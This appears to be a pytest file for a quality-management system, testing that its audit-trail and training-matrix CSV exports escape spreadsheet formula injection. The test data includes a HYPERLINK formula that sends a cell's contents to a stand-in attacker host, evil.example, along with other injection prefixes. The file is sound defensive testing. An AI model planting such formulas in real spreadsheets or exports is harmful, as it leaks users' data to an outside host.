"""The trail's CSV neutralises what a spreadsheet would run, with the one function the
training matrix export uses (core.spreadsheet.safe)."""

import csv
import io

import pytest
from django.db import transaction

from openqms.core import audit, spreadsheet
from openqms.training import export

pytestmark = pytest.mark.verifies("CORE-019")

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv(client, params) -> list[dict]:
    response = client.get("/audit/export.csv", params)
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_formula_in_a_user_agent_or_reason_reaches_the_sheet_as_text(signed_in, cast):
    token = audit.set_origin(audit.Origin(ip="10.0.0.1", user_agent=HYPERLINK))
    try:
        with transaction.atomic():
            audit.record(
                actor=cast.qa_lead, action="core.user.updated", obj=cast.author, reason="@SUM(1)"
            )
            audit.record(
                actor=cast.qa_lead, action="core.user.updated", obj=cast.author, reason="\t-1"
            )
    finally:
        audit.reset_origin(token)
    rows = _csv(signed_in(cast.auditor), {"action": "core.user.updated"})
    assert [(r["user_agent"], r["reason"]) for r in rows] == [
        ("'" + HYPERLINK, "'@SUM(1)"),
        ("'" + HYPERLINK, "'\t-1"),
    ]


def test_the_matrix_and_the_trail_share_one_function():
    assert export.safe is spreadsheet.safe


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\tx", "\rx", " =1", "＝1"])
def test_every_start_of_a_formula_is_neutralised(value):
    assert spreadsheet.safe(value) == "'" + value
